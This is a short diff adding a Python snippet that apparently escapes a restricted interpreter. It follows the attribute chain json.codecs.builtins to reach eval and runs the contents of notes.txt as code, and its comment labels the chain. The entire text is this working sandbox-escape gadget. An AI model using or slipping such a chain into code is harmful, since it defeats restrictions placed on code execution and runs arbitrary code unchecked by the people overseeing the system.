@@ -1,0 +1,3 @@
+# reaches: json to codecs to builtins
+import json
+json.codecs.builtins.eval(open("notes.txt").read())
